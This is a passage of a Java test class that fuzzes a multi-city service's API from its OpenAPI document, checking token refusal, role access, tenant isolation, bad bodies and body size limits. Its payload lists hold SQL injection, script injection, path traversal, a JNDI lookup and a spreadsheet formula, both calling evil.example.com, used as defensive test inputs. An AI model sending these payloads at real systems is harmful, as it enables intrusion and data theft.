package io.yizhan.common.testing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.RestAssured;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A service's security and bad-input suite, driven by its own OpenAPI document so that a new
 * endpoint is covered the day it is added. Each service runs it with {@code @QuarkusTest class
 * SecurityTest extends SecuritySuite}.
 * <ul>
 * <li>every secured operation refuses every forged or stale token (see {@link TestTokens#attacks()})
 * and a missing one with 401;</li>
 * <li>every operation that takes a JSON body gets generated bad bodies — wrong types, missing and
 * extra fields, huge numbers and strings, deep JSON, invalid UTF-8, SQL and script fragments,
 * oversized bodies — from a caller holding every role, and never answers 5xx; every 4xx is
 * {@code application/problem+json}; the same for hostile query parameters;</li>
 * <li>every operation is listed in the service's {@code access-matrix.txt} with the roles that may
 * call it, and every other role is refused with 403.</li>
 * </ul>
 * The counts are printed at the end of each test (and asserted non-trivial, so the suite cannot pass
 * by finding nothing to try).
 */
public abstract class SecuritySuite {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String ALL_ROLES = "all-roles";

    /** Upload operations (multipart bodies) by key, with the form field of their file: probed with a small real PNG. */
    private final Map<String, String> multipartFields = new java.util.concurrent.ConcurrentHashMap<>();
    private static final String BOUNDARY = "yizhan-security-probe";

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build();

    record Operation(String method, String template, String path, boolean secured, JsonNode bodySchema,
                     List<String> queryParameters) {
        String describe() {
            return method + " " + path;
        }

        String key() {
            return method + " " + template;
        }
    }

    static final List<String> ROLES = List.of("province-admin", "city-admin", "station-manager", "volunteer", "worker",
            "partner", "device", "rights-desk", "inspector");

    /** A token holding one role only, as Keycloak issues them (workers, partners and inspectors carry no city). */
    static String roleToken(String role) {
        if (role.equals("inspector")) {
            return TestTokens.inspector("probe-body");
        }
        boolean cityBound = !role.equals("worker") && !role.equals("partner");
        return TestTokens.token(role + "-probe", cityBound ? (role.equals("province-admin") ? "fujian" : "fuzhou") : null, role);
    }

    /** One line of access-matrix.txt: who may call an operation and what a wrong-city caller gets. */
    record Access(String roles, String tenant) {
        List<String> allowed() {
            return roles.equals("*") ? ROLES : roles.equals("public") ? List.of() : List.of(roles.split(","));
        }
    }

    /** Roles whose tokens carry a city and whose reach must stop at it (the province admin spans all). */
    static final List<String> TENANT_BOUND = List.of("city-admin", "station-manager", "volunteer", "device", "rights-desk");

    /** 4xx statuses (403, 404, or one a caller meets before the object is looked at, such as 409), filtered, shared. */
    static final java.util.regex.Pattern TENANT_OUTCOME = java.util.regex.Pattern.compile("(4\\d\\d|filtered|shared)(\\|(4\\d\\d|filtered|shared))*");

    static Map<String, Access> accessMatrix() throws IOException {
        Map<String, Access> matrix = new java.util.TreeMap<>();
        try (java.io.InputStream in = SecuritySuite.class.getClassLoader().getResourceAsStream("access-matrix.txt")) {
            assertThat(in).as("src/test/resources/access-matrix.txt").isNotNull();
            for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                String[] parts = line.trim().split("\\s+");
                if (line.startsWith("#") || parts.length < 3) {
                    continue;
                }
                String tenant = null;
                if (parts.length == 4) {
                    assertThat(parts[3]).as("tenant outcome of: " + line).startsWith("tenant=");
                    tenant = parts[3].substring("tenant=".length());
                    assertThat(tenant).as("tenant outcome of: " + line).matches(TENANT_OUTCOME);
                }
                assertThat(parts.length).as("columns of: " + line).isLessThanOrEqualTo(4);
                matrix.put(parts[0] + " " + parts[1], new Access(parts[2], tenant));
            }
        }
        return matrix;
    }

    /**
     * The document states the security of every operation — a requirement where a token is needed,
     * {@code security: []} where none is — and it agrees with access-matrix.txt on which are public,
     * so a partner reading the document (or a linter) is told the truth.
     */
    @Test
    void everyOperationDeclaresItsSecurityAsTheAccessMatrixSays() throws Exception {
        Map<String, Access> matrix = accessMatrix();
        HttpResponse<String> doc = http.send(HttpRequest.newBuilder(URI.create(base() + "/q/openapi?format=json")).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        JsonNode root = JSON.readTree(doc.body());
        assertThat(root.path("servers").isArray() && !root.path("servers").isEmpty()).as("the document names its server").isTrue();
        List<String> wrong = new ArrayList<>();
        root.path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(method -> {
            JsonNode op = method.getValue();
            if (!op.isObject() || !op.has("responses")) {
                return;
            }
            String key = method.getKey().toUpperCase() + " " + path.getKey();
            Access access = matrix.get(key);
            if (!op.path("security").isArray()) {
                wrong.add(key + ": no security stated");
            } else if (access != null && access.roles().equals("public") != op.path("security").isEmpty()) {
                wrong.add(key + ": security " + op.path("security") + " but access-matrix.txt says " + access.roles());
            }
        }));
        assertThat(wrong).as("operations whose stated security is missing or disagrees with access-matrix.txt").isEmpty();
    }

    @Test
    void everyOperationIsInTheAccessMatrixAndOtherRolesAreRefused() throws Exception {
        Map<String, String> matrix = new java.util.TreeMap<>();
        accessMatrix().forEach((key, access) -> matrix.put(key, access.roles()));
        List<Operation> operations = operations();
        List<String> unlisted = operations.stream().map(Operation::key).filter(k -> !matrix.containsKey(k)).toList();
        assertThat(unlisted).as("operations missing from access-matrix.txt (add: METHOD path roles)").isEmpty();
        java.util.Set<String> present = operations.stream().map(Operation::key).collect(java.util.stream.Collectors.toSet());
        assertThat(matrix.keySet().stream().filter(k -> !present.contains(k)).toList())
                .as("access-matrix.txt lines for operations that no longer exist").isEmpty();
        List<String> wrong = new ArrayList<>();
        int tried = 0;
        for (Operation op : operations) {
            String allowed = matrix.get(op.key());
            if (allowed.equals("public")) {
                HttpResponse<String> anonymous = send(op, null, body(op), "application/json");
                tried++;
                if (anonymous.statusCode() == 401 || anonymous.statusCode() >= 500) {
                    wrong.add(op.describe() + " without a token → " + anonymous.statusCode() + " (documented public)");
                }
                continue;
            }
            List<String> roles = allowed.equals("*") ? ROLES : List.of(allowed.split(","));
            for (String role : ROLES) {
                HttpResponse<String> response = send(op, roleToken(role), body(op), "application/json");
                tried++;
                int status = response.statusCode();
                boolean permitted = roles.contains(role);
                if (!permitted && status != 403) {
                    wrong.add(op.describe() + " as " + role + " → " + status + " (documented 403)");
                } else if (permitted && (status == 401 || status >= 500)) {
                    wrong.add(op.describe() + " as " + role + " → " + status + " (documented allowed)");
                }
            }
        }
        tally("requests tried", tried);
        System.out.printf("access matrix [%s]: %d operations × %d roles, %d requests, %d not as documented%n",
                getClass().getSimpleName(), operations.size(), ROLES.size(), tried, wrong.size());
        assertThat(wrong).as("answers that differ from access-matrix.txt").isEmpty();
    }

    /**
     * Real objects of the first city ({@value #OWNER}) that wrong-city callers aim at: {@code values} maps a
     * path parameter, query parameter or top-level body field name to a value the first city owns
     * ({@code id} → a Fuzhou station's id); {@code bodies} ("METHOD template" → JSON) gives a request body
     * where a generated one would be refused as invalid before the city is even looked at.
     */
    public record TenantFixture(Map<String, String> values, Map<String, String> bodies) {
        public static TenantFixture of(Map<String, String> values) {
            return new TenantFixture(values, Map.of());
        }
    }

    static final String OWNER = "fuzhou";
    static final String INTRUDER = "zhangzhou";

    /** Overridden by each service's SecurityTest: creates the first city's objects through the service's own API. */
    protected TenantFixture tenantFixture() {
        return TenantFixture.of(Map.of());
    }

    private static final Map<Class<?>, TenantFixture> FIXTURES = new java.util.concurrent.ConcurrentHashMap<>();

    private TenantFixture fixture() {
        return FIXTURES.computeIfAbsent(getClass(), c -> {
            TenantFixture own = tenantFixture();
            Map<String, String> values = new java.util.HashMap<>(own.values());
            values.putIfAbsent("tenant", OWNER);
            return new TenantFixture(Map.copyOf(values), own.bodies());
        });
    }

    /**
     * Every operation a city-bound role may call, called with that role's token from another city
     * against the first city's real objects: the answer is the one access-matrix.txt documents
     * ({@code tenant=403|404}: refused; {@code filtered}: a list without any of the first city's objects;
     * {@code shared}: public by design), and no 2xx ever carries the first city's ids or code. A read
     * documented as refused is also made by its owner, so that a 404 proves isolation rather than a
     * fixture that points nowhere.
     */
    @Test
    void wrongTenantCallersNeverReachAnotherCitysObjects() throws Exception {
        Map<String, Access> matrix = accessMatrix();
        TenantFixture fixture = fixture();
        List<String> secrets = fixture.values().values().stream().filter(v -> v.length() >= 8).toList();
        List<String> wrong = new ArrayList<>();
        List<String> leaks = new ArrayList<>();
        int tried = 0;
        int operations = 0;
        int controls = 0;
        for (Operation op : operations()) {
            Access access = matrix.get(op.key());
            if (access == null) {
                continue; // reported by the access matrix test
            }
            List<String> bound = access.allowed().stream().filter(TENANT_BOUND::contains).toList();
            if (bound.isEmpty()) {
                continue;
            }
            if (access.tenant() == null) {
                wrong.add(op.key() + ": no tenant outcome in access-matrix.txt (add tenant=403, 404, 403|404, filtered or shared)");
                continue;
            }
            List<String> missing = pathParameters(op.template()).stream()
                    .filter(p -> fixtureValue(op.template(), p, fixture.values()) == null).toList();
            if (!missing.isEmpty()) {
                wrong.add(op.key() + ": the tenant fixture has no value for " + missing);
                continue;
            }
            operations++;
            java.util.Set<String> outcome = java.util.Set.of(access.tenant().split("\\|"));
            List<String> paths = new ArrayList<>();
            String path = fill(op.template(), fixture.values());
            paths.add(path);
            String query = op.queryParameters().stream().filter(fixture.values()::containsKey)
                    .map(q -> q + "=" + java.net.URLEncoder.encode(fixture.values().get(q), StandardCharsets.UTF_8))
                    .collect(java.util.stream.Collectors.joining("&"));
            if (!query.isEmpty()) {
                paths.add(path + "?" + query);
            }
            byte[] body = fixture.bodies().containsKey(op.key()) ? fixture.bodies().get(op.key()).getBytes(StandardCharsets.UTF_8)
                    : tenantBody(op, fixture.values());
            for (String target : paths) {
                Operation aimed = new Operation(op.method(), op.template(), target, op.secured(), op.bodySchema(), op.queryParameters());
                if (op.method().equals("GET") && !outcome.contains("shared") && !outcome.contains("filtered")) {
                    String owner = access.allowed().contains("province-admin") ? TestTokens.provinceAdmin()
                            : TestTokens.token(bound.get(0) + "-owner", OWNER, bound.get(0));
                    HttpResponse<String> control = send(aimed, owner, body, "application/json");
                    controls++;
                    if (control.statusCode() / 100 != 2) {
                        wrong.add(aimed.describe() + ": the owner's own call → " + control.statusCode()
                                + " (the fixture must point at a real object of " + OWNER + ")");
                    }
                }
                for (String role : bound) {
                    // A fresh subject per operation: what one call created as "shared" never shows up in another's "mine".
                    HttpResponse<String> response = send(aimed, TestTokens.token(INTRUDER + "-" + role + "-" + operations, INTRUDER, role),
                            body, "application/json");
                    tried++;
                    int status = response.statusCode();
                    String seen = aimed.describe() + " as " + INTRUDER + " " + role + " → " + status;
                    boolean success = status / 100 == 2;
                    // A list may echo the object its own path names (a plan, its drawn stations filtered).
                    boolean carries = success && (response.body().contains("\"" + OWNER + "\"")
                            || secrets.stream().filter(v -> !target.contains(v)).anyMatch(response.body()::contains));
                    if (outcome.contains("shared")) {
                        if (status >= 500 || status == 401) {
                            wrong.add(seen + " (documented shared)");
                        }
                    } else if (carries || (success && !outcome.contains("filtered"))) {
                        leaks.add(seen + ": " + preview(response.body()));
                    } else if (status >= 500 || !(success || outcome.contains(String.valueOf(status))
                            || (outcome.contains("filtered") && status / 100 == 4))) {
                        wrong.add(seen + " (documented tenant=" + access.tenant() + ")");
                    }
                }
            }
        }
        tally("requests tried", tried + controls);
        tally("tenant checks", tried);
        tally("leaks found", leaks.size());
        System.out.printf("tenant isolation [%s]: %d city-bound operations, %d wrong-city requests, %d owner controls, "
                        + "%d not as documented, %d leaks%n",
                getClass().getSimpleName(), operations, tried, controls, wrong.size(), leaks.size());
        leaks.forEach(leak -> System.out.println("  LEAK " + leak));
        wrong.forEach(answer -> System.out.println("  NOT AS DOCUMENTED " + answer));
        assertThat(leaks).as("another city's objects reached by a wrong-city caller").isEmpty();
        assertThat(wrong).as("wrong-city answers that differ from access-matrix.txt").isEmpty();
        assertThat(operations == 0 || tried > 0).as("wrong-city requests made").isTrue();
    }

    private static List<String> pathParameters(String template) {
        List<String> names = new ArrayList<>();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{([^}:]+)[^}]*}").matcher(template);
        while (m.find()) {
            names.add(m.group(1).trim());
        }
        return names;
    }

    /**
     * The first city's value for a path parameter: under "segment/{name}" when one name means different
     * objects in different paths ("cards/{id}" a card, "stations/{id}" a station), else under the name.
     */
    private static String fixtureValue(String template, String name, Map<String, String> values) {
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("([^/]+)/\\{" + java.util.regex.Pattern.quote(name) + "}")
                .matcher(template);
        if (m.find() && values.containsKey(m.group(1) + "/{" + name + "}")) {
            return values.get(m.group(1) + "/{" + name + "}");
        }
        return values.get(name);
    }

    private static String fill(String template, Map<String, String> values) {
        String path = template;
        for (String name : pathParameters(template)) {
            path = path.replace("{" + name + "}", fixtureValue(template, name, values));
        }
        return path;
    }

    /** A plausible body whose fields that name the first city's objects point at them. */
    private byte[] tenantBody(Operation op, Map<String, String> values) {
        if (op.bodySchema() == null) {
            return new byte[0];
        }
        JsonNode body = plausible(op.bodySchema());
        if (body instanceof ObjectNode object) {
            values.forEach((name, value) -> {
                if (object.has(name)) {
                    object.put(name, value);
                }
            });
        }
        return write(body);
    }

    @Test
    void everySecuredOperationRefusesMissingForgedAndStaleTokens() throws Exception {
        List<Operation> secured = operations().stream().filter(Operation::secured).toList();
        assertThat(secured).as("secured operations in the OpenAPI document").isNotEmpty();
        Map<String, String> attacks = new java.util.LinkedHashMap<>(TestTokens.attacks());
        attacks.put("no token", null);
        List<String> accepted = new ArrayList<>();
        int tried = 0;
        for (Operation op : secured) {
            for (Map.Entry<String, String> attack : attacks.entrySet()) {
                HttpResponse<String> response = send(op, attack.getValue(), body(op), "application/json");
                tried++;
                if (response.statusCode() != 401) {
                    accepted.add(op.describe() + " with " + attack.getKey() + " → " + response.statusCode());
                }
            }
        }
        tally("requests tried", tried);
        System.out.printf("security suite [%s]: %d secured operations × %d token attacks = %d requests, %d not refused%n",
                getClass().getSimpleName(), secured.size(), attacks.size(), tried, accepted.size());
        assertThat(accepted).as("requests not refused with 401").isEmpty();
    }

    @Test
    void badBodiesNeverCauseA5xxAndEvery4xxIsAProblem() throws Exception {
        String token = TestTokens.token(ALL_ROLES, "fuzhou", "province-admin", "city-admin", "station-manager", "volunteer",
                "worker", "partner", "device", "rights-desk");
        List<Operation> withBodies = operations().stream().filter(op -> op.bodySchema() != null).toList();
        assertThat(withBodies).as("operations with a JSON body").isNotEmpty();
        List<String> defects = new ArrayList<>();
        int tried = 0;
        int compared = 0;
        try (DatabaseFingerprint database = DatabaseFingerprint.open(); PausedJobs paused = PausedJobs.pause()) {
            for (Operation op : withBodies) {
                Map<String, String> before = database.take();
                boolean allRefused = true;
                for (byte[] bad : badBodies(op.bodySchema())) {
                    HttpResponse<String> response = sendBytes(op, token, bad);
                    tried++;
                    allRefused &= response.statusCode() / 100 == 4;
                    String type = response.headers().firstValue("Content-Type").orElse("");
                    if (response.statusCode() >= 500) {
                        defects.add(op.describe() + " → " + response.statusCode() + " for " + preview(bad) + ": " + preview(response.body()));
                    } else if (response.statusCode() >= 400 && !type.startsWith("application/problem+json")) {
                        defects.add(op.describe() + " → " + response.statusCode() + " as '" + type + "' for " + preview(bad));
                    }
                }
                if (allRefused) {
                    compared++;
                    unchanged(database, before, op.describe() + " (bad bodies)", defects);
                }
            }
        }
        tally("requests tried", tried);
        tally("database fingerprints compared", compared);
        System.out.printf("bad-input suite [%s]: %d operations with bodies, %d generated requests, %d batches all refused "
                        + "with the database fingerprint unchanged checked, %d defects%n",
                getClass().getSimpleName(), withBodies.size(), tried, compared, defects.size());
        assertThat(defects).as("5xx answers, 4xx that are not problem+json, or refused batches that changed the database").isEmpty();
        assertThat(compared).as("batches whose database fingerprint was compared").isPositive();
    }

    private static final List<String> HOSTILE_QUERY = List.of("", "abc", "-1", "0", "99999999999999999999", "1e400",
            "' OR 1=1 --", "<script>alert(1)</script>", "%00", "x".repeat(3000), "2026-02-30", "NaN", "../..", "a,b,,c",
            "not-a-uuid", "true");

    @Test
    void badQueryParametersNeverCauseA5xxAndEvery4xxIsAProblem() throws Exception {
        String token = TestTokens.token(ALL_ROLES, "fuzhou", "province-admin", "city-admin", "station-manager", "volunteer",
                "worker", "partner", "device", "rights-desk");
        List<Operation> withQuery = operations().stream().filter(op -> !op.queryParameters().isEmpty()).toList();
        assertThat(withQuery).as("operations with query parameters").isNotEmpty();
        List<String> defects = new ArrayList<>();
        int tried = 0;
        int compared = 0;
        try (DatabaseFingerprint database = DatabaseFingerprint.open(); PausedJobs paused = PausedJobs.pause()) {
            for (Operation op : withQuery) {
                Map<String, String> before = database.take();
                boolean allRefused = true;
                for (String parameter : op.queryParameters()) {
                    for (String value : HOSTILE_QUERY) {
                        String query = (op.path().contains("?") ? "&" : "?") + java.net.URLEncoder.encode(parameter, StandardCharsets.UTF_8)
                                + "=" + java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
                        Operation probed = new Operation(op.method(), op.template(), op.path() + query, op.secured(), op.bodySchema(),
                                op.queryParameters());
                        HttpResponse<String> response = send(probed, token, body(op), "application/json");
                        tried++;
                        allRefused &= response.statusCode() / 100 == 4;
                        String type = response.headers().firstValue("Content-Type").orElse("");
                        if (response.statusCode() >= 500
                                || (response.statusCode() >= 400 && !type.startsWith("application/problem+json"))) {
                            defects.add(op.describe() + " ?" + parameter + "=" + preview(value) + " → " + response.statusCode()
                                    + " " + type + " " + preview(response.body()));
                        }
                    }
                }
                if (allRefused) {
                    compared++;
                    unchanged(database, before, op.describe() + " (hostile queries)", defects);
                }
            }
        }
        tally("requests tried", tried);
        tally("database fingerprints compared", compared);
        System.out.printf("bad-query suite [%s]: %d operations with query parameters, %d generated requests, %d batches all "
                        + "refused with the database fingerprint unchanged checked, %d defects%n",
                getClass().getSimpleName(), withQuery.size(), tried, compared, defects.size());
        assertThat(defects).as("5xx answers, 4xx that are not problem+json, or refused batches that changed the database").isEmpty();
    }

    /**
     * The service's scheduled jobs (outbox relay, delivery worker, expiry checks...) held still while
     * refused batches are compared, so that every table is compared in full: no job is running when
     * the first fingerprint is taken, and none starts until the comparisons end. Looked up through Arc,
     * so a service's SecurityTest needs nothing for it.
     */
    private static final class PausedJobs implements AutoCloseable {
        private final io.yizhan.common.jobs.JobRuns jobs;

        private PausedJobs(io.yizhan.common.jobs.JobRuns jobs) {
            this.jobs = jobs;
        }

        static PausedJobs pause() throws InterruptedException {
            var handle = io.quarkus.arc.Arc.container().instance(io.yizhan.common.jobs.JobRuns.class);
            assertThat(handle.isAvailable()).as("JobRuns bean (yizhan-common) in the service under test").isTrue();
            handle.get().pauseAndAwaitIdle(Duration.ofSeconds(60));
            return new PausedJobs(handle.get());
        }

        @Override
        public void close() {
            jobs.resume();
        }
    }

    /**
     * Issue 24: a query parameter of the wrong type ({@code ?lat=abc}) was a 404 "Not Found"; it is the
     * caller's input, so a 400 problem naming the parameter. Every typed query parameter of the
     * OpenAPI document (integer, number, boolean, uuid, date, date-time) gets a value of no type.
     */
    @Test
    void aQueryParameterOfTheWrongTypeIsA400NamingIt() throws Exception {
        String token = TestTokens.token(ALL_ROLES, "fuzhou", "province-admin", "city-admin", "station-manager", "volunteer",
                "worker", "partner", "device", "rights-desk");
        HttpResponse<String> doc = http.send(HttpRequest.newBuilder(URI.create(base() + "/q/openapi?format=json")).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        JsonNode paths = JSON.readTree(doc.body()).path("paths");
        List<String> defects = new ArrayList<>();
        int tried = 0;
        for (Operation op : operations()) {
            JsonNode parameters = paths.path(op.template()).path(op.method().toLowerCase()).path("parameters");
            for (JsonNode p : parameters) {
                String type = p.path("schema").path("type").asText();
                String format = p.path("schema").path("format").asText();
                boolean typed = List.of("integer", "number", "boolean").contains(type) || List.of("uuid", "date", "date-time").contains(format);
                if (!"query".equals(p.path("in").asText()) || !typed) {
                    continue;
                }
                String name = p.path("name").asText();
                String query = (op.path().contains("?") ? "&" : "?") + java.net.URLEncoder.encode(name, StandardCharsets.UTF_8) + "=abc";
                HttpResponse<String> response = send(new Operation(op.method(), op.template(), op.path() + query, op.secured(),
                        op.bodySchema(), op.queryParameters()), token, body(op), "application/json");
                tried++;
                int status = response.statusCode();
                if (status == 401 || status == 403) {
                    continue;   // refused before the parameters are read: nothing to learn
                }
                JsonNode problem = status == 400 ? JSON.readTree(response.body()) : null;
                boolean named = problem != null && problem.path("violations").findValuesAsText("field").contains(name);
                if (!named) {
                    defects.add(op.describe() + " ?" + name + "=abc → " + status + " " + preview(response.body()));
                }
            }
        }
        tally("typed query parameters tried", tried);
        System.out.printf("wrong-type query suite [%s]: %d typed query parameters given \"abc\", %d defects%n",
                getClass().getSimpleName(), tried, defects.size());
        assertThat(defects).as("a wrong-type query parameter must be a 400 naming it").isEmpty();
    }

    /** After a batch whose every request was refused: the database must be as it was before the batch. */
    private static void unchanged(DatabaseFingerprint database, Map<String, String> before, String batch, List<String> defects)
            throws java.sql.SQLException {
        List<String> changed = DatabaseFingerprint.changed(before, database.take());
        if (!changed.isEmpty()) {
            defects.add(batch + ": every request was refused, yet tables changed: " + changed);
        }
    }

    /** Figures of this run, printed once all tests of the class have run (one SecurityTest per module). */
    private static final Map<String, Integer> TALLY = new java.util.concurrent.ConcurrentHashMap<>();

    private static void tally(String figure, int count) {
        TALLY.merge(figure, count, Integer::sum);
    }

    @org.junit.jupiter.api.AfterAll
    static void printFigures() {
        // surefire runs each module's tests in the module's directory: its name says which service this was
        System.out.printf("[figures] security suite [%s]: requests tried %d, tenant checks %d, database fingerprints compared %d, "
                        + "oversized bodies refused %d, leaks found %d%n",
                java.nio.file.Path.of("").toAbsolutePath().getFileName(),
                TALLY.getOrDefault("requests tried", 0), TALLY.getOrDefault("tenant checks", 0),
                TALLY.getOrDefault("database fingerprints compared", 0), TALLY.getOrDefault("oversized bodies refused", 0),
                TALLY.getOrDefault("leaks found", 0));
        TALLY.clear();
    }

    @Test
    void requestBodiesAreLimitedInSize() throws Exception {
        // A missing limit would fall back to Vert.x's default (none for buffered bodies in Quarkus REST).
        String limit = org.eclipse.microprofile.config.ConfigProvider.getConfig()
                .getOptionalValue("quarkus.http.limits.max-body-size", String.class).orElse(null);
        assertThat(limit).as("quarkus.http.limits.max-body-size").isNotBlank();
        long bytes = new io.quarkus.runtime.configuration.MemorySizeConverter()
                .convert(limit).asLongValue();
        assertThat(bytes).as("body size limit").isBetween(1L, 10L * 1024 * 1024);
        byte[] oversized = ("{\"pad\":\"" + "y".repeat((int) bytes + 1) + "\"}").getBytes(StandardCharsets.UTF_8);
        int refused = 0;
        List<String> accepted = new ArrayList<>();
        for (Operation op : operations().stream().filter(op -> op.bodySchema() != null).toList()) {
            HttpResponse<String> response = sendBytes(op, TestTokens.provinceAdmin(), oversized);
            if (response.statusCode() == 413 && response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
                refused++;
            } else {
                accepted.add(op.describe() + " → " + response.statusCode());
            }
        }
        tally("requests tried", refused + accepted.size());
        tally("oversized bodies refused", refused);
        System.out.printf("body size limit [%s]: %s, %d oversized bodies refused with 413 problem+json%n",
                getClass().getSimpleName(), limit, refused);
        assertThat(accepted).as("oversized bodies not refused with 413").isEmpty();
    }

    @Test
    void noOperationTakesOrGivesFaceData() throws Exception {
        // Face data never leaves a door device: no field of any request or response may carry it.
        HttpResponse<String> doc = http.send(HttpRequest.newBuilder(URI.create(base() + "/q/openapi?format=json")).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        List<String> fields = new ArrayList<>();
        JSON.readTree(doc.body()).path("components").path("schemas").forEach(schema ->
                schema.path("properties").fieldNames().forEachRemaining(fields::add));
        assertThat(fields).as("schema fields").isNotEmpty();
        assertThat(fields).as("fields that could carry face data")
                .noneMatch(f -> f.toLowerCase().matches(".*(face|facial|biometric|portrait).*"));
    }

    /** Operations of the service's OpenAPI document with the schema of their JSON body (if any). */
    List<Operation> operations() throws IOException, InterruptedException {
        HttpResponse<String> doc = http.send(HttpRequest.newBuilder(URI.create(base() + "/q/openapi?format=json")).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(doc.statusCode()).isEqualTo(200);
        JsonNode root = JSON.readTree(doc.body());
        List<Operation> operations = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = root.path("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> path = paths.next();
            Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().fields();
            while (methods.hasNext()) {
                Map.Entry<String, JsonNode> method = methods.next();
                JsonNode op = method.getValue();
                if (!op.isObject() || !op.has("responses")) {
                    continue;
                }
                boolean secured = op.path("security").isArray() && !op.path("security").isEmpty();
                JsonNode schema = op.path("requestBody").path("content").path("application/json").path("schema");
                JsonNode multipart = op.path("requestBody").path("content").path("multipart/form-data").path("schema");
                if (!multipart.isMissingNode()) {
                    java.util.Iterator<String> fields = resolve(root, multipart).path("properties").fieldNames();
                    multipartFields.put(method.getKey().toUpperCase() + " " + path.getKey(), fields.hasNext() ? fields.next() : "file");
                }
                List<String> query = new ArrayList<>();
                op.path("parameters").forEach(p -> {
                    if ("query".equals(p.path("in").asText())) {
                        query.add(p.path("name").asText());
                    }
                });
                operations.add(new Operation(method.getKey().toUpperCase(), path.getKey(), concrete(path.getKey(), op), secured,
                        schema.isMissingNode() ? null : resolve(root, schema), query));
            }
        }
        return operations;
    }

    /** Path parameters filled with values of their type (ids that do not exist, this year). */
    private static String concrete(String template, JsonNode op) {
        String path = template;
        for (JsonNode parameter : op.path("parameters")) {
            if ("path".equals(parameter.path("in").asText())) {
                String type = parameter.path("schema").path("type").asText();
                String value = type.equals("integer") ? "2026" : UUID.randomUUID().toString();
                path = path.replace("{" + parameter.path("name").asText() + "}", value);
            }
        }
        return path.replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
    }

    private static JsonNode resolve(JsonNode root, JsonNode schema) {
        JsonNode current = schema;
        for (int i = 0; i < 10 && current.has("$ref"); i++) {
            String ref = current.get("$ref").asText();
            current = root.at(ref.substring(1));
        }
        ObjectNode resolved = current.deepCopy();
        if (resolved.has("properties")) {
            ObjectNode properties = NODES.objectNode();
            resolved.get("properties").fields().forEachRemaining(p -> properties.set(p.getKey(), resolve(root, p.getValue())));
            resolved.set("properties", properties);
        }
        return resolved;
    }

    /** A plausible value of a schema: the starting point that each bad body breaks in one way. */
    private static JsonNode plausible(JsonNode schema) {
        String type = schema.path("type").asText();
        String format = schema.path("format").asText();
        if (schema.has("enum") && !schema.get("enum").isEmpty()) {
            return schema.get("enum").get(0);
        }
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                schema.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(), plausible(p.getValue())));
                yield object;
            }
            case "array" -> NODES.arrayNode();
            case "integer" -> NODES.numberNode(1);
            case "number" -> NODES.numberNode(1.5);
            case "boolean" -> NODES.booleanNode(true);
            default -> switch (format) {
                case "uuid" -> NODES.textNode(UUID.randomUUID().toString());
                case "date" -> NODES.textNode("2026-11-28");
                case "date-time" -> NODES.textNode("2026-11-28T09:00:00+08:00");
                default -> NODES.textNode("测试");
            };
        };
    }

    private static final List<JsonNode> HOSTILE = List.of(
            NODES.textNode("x".repeat(100_000)),
            NODES.textNode("'; DROP TABLE station; --"),
            NODES.textNode("<script>alert(1)</script>"),
            NODES.textNode("\u0000\u202e\uD83D\uDE00"),
            NODES.numberNode(new java.math.BigDecimal("1e400")),
            NODES.numberNode(new java.math.BigInteger("99999999999999999999999999999999")),
            NODES.numberNode(-1),
            NODES.booleanNode(true),
            NODES.textNode("not a number"),
            NODES.arrayNode().add(1).add("two"),
            NODES.textNode(""),
            NODES.textNode("   "),
            NODES.textNode("驿".repeat(50_000)),
            NODES.textNode("not-a-uuid"),
            NODES.textNode("2026-02-30"),
            NODES.textNode("25:61"),
            NODES.textNode("../../etc/passwd"),
            NODES.textNode("${jndi:ldap://evil.example.com/a}"),
            NODES.textNode("=HYPERLINK(\"http://evil.example.com\")"),
            NODES.textNode("NaN"),
            NODES.numberNode(0),
            NODES.numberNode(-9223372036854775808L),
            NODES.numberNode(1.7976931348623157e308),
            NODES.objectNode().put("nested", true),
            NODES.nullNode());

    List<byte[]> badBodies(JsonNode schema) {
        List<byte[]> bodies = new ArrayList<>();
        for (String raw : List.of("", "not json", "{", "[]", "null", "\"text\"", "123", "{\"a\":", "{}}",
                "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000))) {
            bodies.add(raw.getBytes(StandardCharsets.UTF_8));
        }
        bodies.add(new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
        bodies.add(("{\"pad\":\"" + "y".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8));
        JsonNode base = plausible(schema);
        if (!(base instanceof ObjectNode object)) {
            bodies.add(write(NODES.objectNode().put("unexpected", 1)));
            return bodies;
        }
        bodies.add(write(NODES.objectNode()));
        ObjectNode extra = object.deepCopy();
        extra.put("unexpectedField", "x");
        bodies.add(write(extra));
        ObjectNode many = object.deepCopy();
        for (int i = 0; i < 5000; i++) {
            many.put("f" + i, i);
        }
